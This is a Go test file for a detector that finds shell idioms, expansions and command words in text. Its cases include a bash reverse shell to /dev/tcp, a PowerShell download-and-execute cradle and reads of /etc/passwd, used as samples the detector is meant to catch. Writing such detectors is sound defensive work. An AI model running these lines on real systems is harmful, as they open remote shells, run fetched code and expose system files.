package shell

import "testing"

// TestPhraseFindsShellIdioms checks that the phrases only a shell line
// writes are found at a word start, and not inside other words or prose.
func TestPhraseFindsShellIdioms(t *testing.T) {
	for _, c := range []struct {
		name, s string
		want    bool
	}{
		{"reverse shell device", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", true},
		{"cmd /c", "x & cmd /c whoami", true},
		{"powershell download", "iex (new-object net.webclient).downloadstring('http://x')", true},
		{"inside a longer word", "fresh -installed", false},
		{"prose", "the network user guide", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			if i := Phrase(c.s, nil); (i >= 0) != c.want {
				t.Errorf("Phrase(%q) = %d, want found %v", c.s, i, c.want)
			}
		})
	}
}

// TestExpansionFindsShellOnlyExpansions checks process substitution and
// pattern-removing parameter expansion against the defaults configuration
// files write.
func TestExpansionFindsShellOnlyExpansions(t *testing.T) {
	for _, c := range []struct {
		name, s string
		want    bool
	}{
		{"process substitution", "diff <(cat /etc/passwd) x", true},
		{"prefix removal", "${x#pattern}", true},
		{"suffix removal", "${path%/*}", true},
		{"substitution", "${v//a/b}", true},
		{"default value", "${port:-80}", false},
		{"template variable", "hello ${name}", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			if i := Expansion(c.s); (i >= 0) != c.want {
				t.Errorf("Expansion(%q) = %d, want found %v", c.s, i, c.want)
			}
		})
	}
}

// TestCommandWordAtReadsPathsAndSuffixes checks that a command word is read
// with its path prefix and .exe suffix stripped to the name.
func TestCommandWordAtReadsPathsAndSuffixes(t *testing.T) {
	for _, c := range []struct{ s, want string }{
		{"/bin/cat /etc/passwd", "cat"},
		{"  whoami", "whoami"},
		{"cmd.exe /c dir", "cmd"},
		{"(id)", "id"},
	} {
		if w, _, _ := CommandWordAt(c.s, 0); w != c.want {
			t.Errorf("CommandWordAt(%q, 0) = %q, want %q", c.s, w, c.want)
		}
	}
}

// TestWholeValueShapes checks the readings that take the whole value as one
// shell construct: alias definitions, the directory stack, history events.
func TestWholeValueShapes(t *testing.T) {
	for _, c := range []struct {
		name string
		read func(string) bool
		s    string
		want bool
	}{
		{"alias definition", AliasDef, "alias a=b", true},
		{"quoted alias definition", AliasDef, "alias 'letter'=curl", true},
		{"alias in prose", AliasDef, "alias of the user", false},
		{"directory stack", TildeStack, "~+5", true},
		{"home path", TildeStack, "~/notes", false},
		{"history events", HistoryEvents, "!-1!-2", true},
		{"exclamation in prose", HistoryEvents, "wow!-1 point", false},
	} {
		t.Run(c.name, func(t *testing.T) {
			if got := c.read(c.s); got != c.want {
				t.Errorf("%s(%q) = %v, want %v", c.name, c.s, got, c.want)
			}
		})
	}
}
